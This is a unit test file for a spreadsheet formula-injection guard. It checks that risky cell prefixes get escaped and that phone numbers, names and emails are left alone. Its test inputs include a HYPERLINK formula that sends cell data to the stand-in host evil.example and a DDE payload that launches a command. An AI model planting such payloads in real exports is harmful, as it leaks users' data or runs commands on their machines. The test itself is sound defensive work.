import { neutraliseFormula } from './formula-guard';

describe('formula injection guard', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
  ])('escapes %j', (cell, escaped) => {
    expect(neutraliseFormula(cell)).toBe(escaped);
  });

  it('leaves E.164 phone numbers, names, emails and times as they are', () => {
    for (const cell of ['+33612345678', '+15005550006', 'Zoë Ørsted-Lefèvre', 'ada@example.com', '2026-03-29T03:30:00+02:00', 'A-1042', '']) {
      expect(neutraliseFormula(cell)).toBe(cell);
    }
  });
});
